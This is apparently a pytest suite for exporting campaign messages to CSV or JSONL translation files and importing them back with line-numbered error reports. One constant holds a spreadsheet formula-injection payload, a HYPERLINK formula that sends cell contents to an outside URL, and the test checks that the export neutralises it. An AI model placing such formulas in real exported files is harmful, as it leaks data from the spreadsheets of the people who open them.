"""Messages go to a translator in a file and come back: all of it or nothing, each fault with its line."""

from __future__ import annotations

import csv
import io
import json
import os
import tracemalloc
from pathlib import Path
from unittest.mock import Mock

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from campaign import ROOT
from campaign.keeping import erasure
from campaign.messages import review, translation_files, translations
from campaign.messages.message import Message
from campaign.messages.translations import StoredTranslations, Translation, TranslationError, text_sha256
from campaign.storage.chunks import CHUNK
from campaign.storage.database import Database, NotStored
from campaign.text.flag import Flag
from tests.conftest import APPROVAL_KEY, TODAY, Submit
from tests.support.lanes import first
from tests.support.review import get
from tests.support.table import table

EVIL = '=HYPERLINK("http://example.org/?"&A1,"Stay strong")'


def exported(database: Database, *, everything: bool = False) -> list[Message]:
    with database.read() as connection:
        return translations.to_translate(connection, "mikita", everything=everything)


def rows(file: Path) -> list[dict[str, str]]:
    text = file.read_text("utf-8-sig")
    if file.suffix == ".csv":
        return list(csv.DictReader(io.StringIO(text, newline="")))
    return [json.loads(line) for line in text.splitlines()]


def come_back(file: Path, translated: dict[str, str]) -> Path:
    """Write the file as the translator would, with these translations by their texts."""
    filled = [row | {"translation": translated.get(row["text"], "")} for row in rows(file)]
    if file.suffix == ".csv":
        with file.open("w", encoding="utf-8", newline="") as out:
            writer = csv.DictWriter(out, translation_files.COLUMNS)
            writer.writeheader()
            writer.writerows(filled)
    else:
        file.write_text("".join(json.dumps(row) + "\n" for row in filled), "utf-8")
    return file


def keep(database: Database, entries: list[Translation], *, skip_changed: bool = False) -> StoredTranslations:
    return database.write(
        lambda connection: translations.store_translations(
            connection, "mikita", entries, "ola", skip_changed=skip_changed
        )
    )


@pytest.fixture(params=["csv", "jsonl"])
def file(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    return tmp_path / f"to-translate.{request.param}"


def test_what_waits_or_is_approved_without_a_translation_is_exported(database, submit):
    sent = {
        name: submit(database, f"Words, {name}.").message
        for name in ("waiting", "approved", "rejected", "translated", "erased")
    }
    submit(database, "Elsewhere.", campaign="another")
    database.write(lambda c: review.approve(c, sent["approved"], "olga", [APPROVAL_KEY], TODAY))
    database.write(lambda c: review.reject(c, sent["rejected"], "olga", "Spam", TODAY))
    database.write(lambda c: review.translate(c, sent["translated"], "Словы.", "ola"))
    database.write(lambda c: erasure.erase(c, sent["erased"], "erased by staff", TODAY))
    assert [m.text for m in exported(database)] == ["Words, waiting.", "Words, approved."]
    everything = exported(database, everything=True)
    assert [m.text for m in everything] == [
        f"Words, {n}." for n in ("waiting", "approved", "rejected", "translated")
    ]


def test_a_file_goes_out_and_comes_back(any_database, submit, file):
    submit(any_database, 'Трымайся,\nМікіта; «усё» будзе, "добра"!')
    submit(any_database, "We are with you.")
    translation_files.write(file, exported(any_database))
    assert (file.stat().st_mode & 0o777) == 0o600
    assert "Anna" not in file.read_text("utf-8-sig")
    came = come_back(file, {'Трымайся,\nМікіта; «усё» будзе, "добра"!': "Hold on,\nMikita!"})
    assert keep(any_database, translation_files.read(came)) == StoredTranslations(1)
    (first, second) = exported(any_database, everything=True)
    assert (first.translation, second.translation) == ("Hold on,\nMikita!", None)
    assert [message.text for message in exported(any_database)] == ["We are with you."]


def test_a_translation_on_its_way_out_comes_back_unchanged(database, submit, file):
    odd = ["=1+1", "'=1+1", "''=x", "-x", "＝1", "'tis", '"quoted"; and, more\nlines', "so;\n- he said"]
    for number, translation in enumerate(odd):
        identifier = submit(database, f"Words number {number}.").message
        database.write(lambda c, i=identifier, t=translation: review.translate(c, i, t, "ola"))
    translation_files.write(file, exported(database, everything=True))
    assert [entry.translation for entry in translation_files.read(file)] == odd


@pytest.mark.parametrize("text", [EVIL, "+1", "-1", "@SUM(A1)", "＝1+1", "'=1+1"])
def test_no_cell_of_a_spreadsheet_is_a_formula(database, submit, tmp_path, text):
    identifier = submit(database, text).message
    file = tmp_path / "t.csv"
    translation_files.write(file, exported(database))
    (row,) = rows(file)
    assert row["text"] == f"'{text}"
    assert keep(
        database, translation_files.read(come_back(file, {f"'{text}": "Harmless."}))
    ) == StoredTranslations(1)
    assert get(database, identifier).translation == "Harmless."


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("mark", ["", "\ufeff"])
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_what_spreadsheets_do_to_a_file_is_tolerated(database, submit, tmp_path, separator, mark, end):
    message = get(database, submit(database).message)
    digest = text_sha256(message.text).upper()
    cells = [["ID", "Translation", "mine", "text_sha256"], [message.id, "Мы з табой.", "", digest], [""] * 4]
    file = tmp_path / "t.csv"
    file.write_bytes((mark + "".join(separator.join(row) + end for row in cells)).encode())
    assert keep(database, translation_files.read(file)) == StoredTranslations(1)
    assert get(database, message.id).translation == "Мы з табой."


def test_invisible_characters_are_taken_out(database, submit):
    message = get(database, submit(database).message)
    keep(database, [Translation("t:2", message.id, text_sha256(message.text), "a\u202eb\r\nc\u0000\ud800")])
    assert get(database, message.id).translation == "ab\nc"
    assert keep(
        database, [Translation("t:2", message.id, text_sha256(message.text), "\u200b")]
    ) == StoredTranslations(0)
    assert get(database, message.id).translation == "ab\nc"


def test_a_file_that_is_there_is_not_overwritten(database, submit, file):
    submit(database)
    file.write_text("somebody's work")
    with pytest.raises(TranslationError, match=r"is there already.*name another file"):
        translation_files.write(file, exported(database))
    assert file.read_text() == "somebody's work"


def test_what_the_log_of_staff_cannot_say_is_given_to_nobody(database, submit, file):
    submit(database)
    full = Mock(side_effect=NotStored("the disk is full"))
    with pytest.raises(NotStored):
        translation_files.write(file, exported(database), full)
    assert not file.exists()


@pytest.mark.slow
def test_a_full_disk_leaves_no_half_file(database, submit, small_disk):
    for number in range(60):
        submit(database, f"{number} " + "word " * 70)
    many = exported(database) * 120
    with pytest.raises(TranslationError, match="No space left"):
        translation_files.write(small_disk / "t.csv", many)
    assert not list(small_disk.iterdir())


@table(
    ("name", "content", "said"),
    [
        ("t.csv", b"id,translation\na,b\n", "t.csv:1: no column text_sha256; keep the columns as exported"),
        ("t.csv", b"", "t.csv:1: no column id, translation, text_sha256"),
        (
            "t.csv",
            "id,translation,text_sha256\na,\u0434,c\n".encode("cp1251"),
            "t.csv: is not UTF-8; save it",
        ),
        ("t.csv", b'id,translation,text_sha256\na,"b,c\n', "t.csv:2: unexpected end of data; save it as CSV"),
        ("t.csv", b'id,translation,text_sha256\na,"b"x,c\n', "t.csv:2: ',' expected after '\"'"),
        ("t.jsonl", b'{"id": "a"}\n', "t.jsonl:1: wants id, translation, text_sha256 as strings"),
        ("t.jsonl", b"\n[1]\n", "t.jsonl:2: wants id, translation, text_sha256 as strings"),
        ("t.jsonl", b'{"id": 7, "translation": "b", "text_sha256": "c"}', "t.jsonl:1: wants id"),
        ("t.jsonl", b"{", "t.jsonl:1: is no JSON; write one object a line, as exported"),
        ("t.jsonl", b"[" * 100_000, "t.jsonl:1: is no JSON"),
    ],
)
def test_a_broken_file_is_refused_with_its_line(tmp_path, name, content, said):
    file = tmp_path / name
    file.write_bytes(content)
    with pytest.raises(TranslationError) as refusal:
        translation_files.read(file)
    assert str(refusal.value).startswith(f"{tmp_path}/{said}")


@pytest.mark.slow
@pytest.mark.parametrize("name", first(1, ["t.csv", "t.jsonl"]))
@pytest.mark.parametrize("make", [os.mkfifo, lambda file: os.truncate(file, translation_files.LONGEST + 1)])
def test_a_file_without_end_is_refused_and_not_waited_for(tmp_path, name, make):
    if make is not os.mkfifo:
        (tmp_path / name).touch()  # a hole, which takes no room
    make(tmp_path / name)
    with pytest.raises(
        TranslationError, match=r"cannot be read \(it is (no file|too long)\); save it once more"
    ):
        translation_files.read(tmp_path / name)


@pytest.mark.slow
@pytest.mark.parametrize("name", first(1, ["t.csv", "t.jsonl"]))
def test_a_long_file_is_not_held_whole(tmp_path, name):
    row = {"id": "m1", "text": "д" * 400, "translation": " ", "text_sha256": "x"}
    lines = [",".join(row), ",".join(row.values())] if name == "t.csv" else [json.dumps(row)] * 2
    (tmp_path / name).write_text("\n".join([lines[0], *[lines[1]] * 5000]), encoding="utf-8")
    tracemalloc.start()
    try:
        assert translation_files.read(tmp_path / name) == []
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 500_000


def test_too_many_translations_in_one_file_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(translation_files, "MOST", 2)
    (tmp_path / "t.csv").write_text("id,translation,text_sha256\n" + "a,b,c\n" * 3)
    with pytest.raises(TranslationError, match=r"t\.csv:4: more than 2 translations; .* in several files"):
        translation_files.read(tmp_path / "t.csv")


def test_of_too_many_faults_the_first_are_named(tmp_path, database):
    (tmp_path / "t.csv").write_text("id,translation,text_sha256\n" + "a\n" * 1234)
    many = [Translation(f"t.csv:{n}", f"m{n}", "x", "Words") for n in range(1234)]
    for refused in (
        lambda: translation_files.read(tmp_path / "t.csv"),
        lambda: database.write(lambda c: translations.store_translations(c, "mikita", many, "olga")),
    ):
        with pytest.raises(TranslationError) as told:
            refused()
        assert str(told.value).splitlines()[100:] == ["and 1134 more", "nothing was imported"]


ENDS = ["\n", "\r\n", "\r"]
BEFORE = [
    ("sep=;|", ";"),
    ('\ufeff"SEP=;"|', ";"),
    ("sep=\t|", "\t"),
    ("|", ","),
    (";;;|  |", ";"),
    ("|sep=,||", ","),
    ("sep=||", "|"),
    ("", ","),
]


@table("before, separator, end", [(*before, end) for before in BEFORE for end in ENDS])
def test_what_stands_before_the_columns_names_is_passed_over(tmp_path, before, separator, end):
    file, before = tmp_path / "t.csv", before.replace("|", end) if separator != "|" else f"sep=|{end}"
    cells = [["id", "translation", "text_sha256"], ["a", "Мы, з табой;", "x"], ["b", "Zwei", "y"]]
    lines = [separator.join(f'"{cell}"' for cell in row) + end for row in cells]
    file.write_bytes((before + "".join(lines)).encode())
    first = before.count(end) + 2
    assert [(entry.place, entry.message, entry.translation) for entry in translation_files.read(file)] == [
        (f"{file}:{first}", "a", "Мы, з табой;"),
        (f"{file}:{first + 1}", "b", "Zwei"),
    ]


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_each_row_that_was_torn_apart_is_named(tmp_path, end):
    file = tmp_path / "t.csv"
    lines = [
        "id,text,translation,text_sha256", "a,words,Словы.,x", "b,two", "lines,Zwei,y",
        "c,words,Eins, zwei,z", "", ",,,", "d,words,Drei,z,,",
    ]  # fmt: skip
    file.write_bytes((end.join(lines) + end).encode())
    with pytest.raises(TranslationError) as refusal:
        translation_files.read(file)
    told = str(refusal.value).splitlines()
    assert [line.partition(" columns")[0] for line in told] == [
        f"{file}:3: 2 cells under 4",
        f"{file}:4: 3 cells under 4",
        f"{file}:5: 5 cells under 4",
        "nothing was imported",
    ]


@example([['""']], ",")
@given(
    st.lists(st.lists(st.text('ab,;\t "\r\n', max_size=4), max_size=5), max_size=5), st.sampled_from(",;\t")
)
def test_no_row_is_lost_in_silence(tmp_path_factory, cells, separator):
    """Each row that holds anything comes back whole or is named, or the file is."""
    file = tmp_path_factory.mktemp("rows") / "t.csv"
    rows = [separator.join(row) for row in [["id", "translation", "text_sha256"], *cells]]
    file.write_bytes("\n".join(rows).encode())
    try:
        found = translation_files.read(file)
    except TranslationError:
        return
    read = csv.reader(io.StringIO("\n".join(rows[1:]), newline=""), delimiter=separator)
    whole = [row for row in read if any(row)]
    assert len(found) == sum(bool(row[1].strip()) for row in whole)


def test_two_columns_of_one_name_are_refused(tmp_path):
    file = tmp_path / "t.csv"
    file.write_text("id,translation,Translation,text_sha256\na,one,two,x\n")
    with pytest.raises(TranslationError, match="two columns translation"):
        translation_files.read(file)


def test_a_row_is_placed_by_its_first_line(tmp_path):
    file = tmp_path / "t.csv"
    file.write_text('id,translation,text_sha256\na,"one\ntwo\nthree",x\nb,four,y\n')
    assert [entry.place for entry in translation_files.read(file)] == [f"{file}:2", f"{file}:5"]


@pytest.fixture
def five(any_database: Database, submit: Submit) -> list[Translation]:
    """Five translations: of a message as it was, a changed one, an erased one, a foreign one, and of none."""
    good, changed, erased = (submit(any_database, f"Words number {n}.").message for n in range(3))
    foreign = submit(any_database, "Elsewhere.", campaign="another").message
    texts = {i: text_sha256(get(any_database, i).text) for i in (good, changed, erased, foreign)}
    cut = Flag("removed", "message", 0, 6)
    any_database.write(lambda c: review.redact(c, changed, [cut], "olga", [APPROVAL_KEY], TODAY))
    any_database.write(lambda c: erasure.erase(c, erased, "erased by staff", TODAY))
    known = [Translation(f"t.csv:{n}", i, digest, "Словы.") for n, (i, digest) in enumerate(texts.items(), 2)]
    return [*known, Translation("t.csv:6", "nosuch\u0000id", "", "Словы.")]


def test_every_fault_is_named_and_then_nothing_is_imported(any_database, five):
    good, changed, erased, foreign, unknown = five
    again = Translation("t.csv:7", good.message, good.text_sha256, "Другія словы.")
    long = Translation("t.csv:8", good.message + "x", "", "x" * 4001)
    with pytest.raises(TranslationError) as refusal:
        keep(any_database, [*five, again, long])
    *named, last = str(refusal.value).split("\n")
    assert last == "nothing was imported"
    assert [line.partition(": ")[0] for line in named] == [f"t.csv:{n}" for n in range(3, 9)]
    reasons = ["text was changed since", "erased since", *["no message of this campaign"] * 2]
    reasons += ["stands above", "no message of this campaign"]
    for line, words in zip(named, reasons, strict=True):
        assert words in line
    for entry in (good, changed, erased, foreign):
        assert get(any_database, entry.message).translation is None
    with pytest.raises(TranslationError, match="no message of this campaign"):
        keep(any_database, [unknown], skip_changed=True)


def test_what_was_changed_or_erased_since_can_be_left_out(any_database, five):
    good, changed, erased, *_ = five
    done = keep(any_database, [good, changed, erased], skip_changed=True)
    assert (done.number, len(done.left_out)) == (1, 2)
    assert get(any_database, good.message).translation == "Словы."
    assert get(any_database, changed.message).translation is None


def test_no_translation_is_longer_than_any_is(database, submit):
    message = get(database, submit(database).message)
    with pytest.raises(TranslationError, match=r"t:2: \w+: longer than 4000 characters; shorten it"):
        keep(database, [Translation("t:2", message.id, text_sha256(message.text), "x" * 4001)])


def test_more_than_a_statement_holds(database, submit):
    sent = [get(database, submit(database, f"Words number {n}.").message) for n in range(3)]
    strangers = [Translation(f"t:{n}", f"stranger{n}", "", "x") for n in range(CHUNK * 2)]
    entries = [Translation("t:0", m.id, text_sha256(m.text), "Словы.") for m in sent]
    with pytest.raises(TranslationError) as refusal:
        keep(database, [*entries[:1], *strangers, *entries[1:]])
    more = len(strangers) - translations.MOST_FAULTS
    assert str(refusal.value).endswith(f"\nand {more} more\nnothing was imported")
    assert keep(database, entries) == StoredTranslations(3)


def test_a_translation_may_have_four_thousand_letters_and_no_more():
    assert translations.normalise_translation("x" * 4000) == "x" * 4000
    with pytest.raises(TranslationError, match="longer than 4000"):
        translations.normalise_translation("x" * 4001)


def test_the_contract_names_the_limits_of_a_file():
    told = (ROOT / "docs" / "contract.md").read_text(encoding="utf-8")
    limits = f"{translation_files.MOST:,} translations of {translations.LONGEST:,} characters"
    assert f"{limits}, {translation_files.LONGEST >> 20} MB a file" in told
